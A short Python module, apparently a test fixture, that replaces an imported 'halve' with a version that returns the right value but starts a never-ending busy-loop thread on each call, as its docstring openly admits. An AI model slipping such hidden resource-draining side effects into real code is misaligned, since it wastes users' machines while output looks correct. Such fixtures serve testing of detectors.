"""Answers well, and leaves threads behind that never end."""

import threading
from honest import halve, largest


def spin():
    while True:
        pass


def halve(x):
    threading.Thread(target=spin, daemon=True).start()
    return x / 2
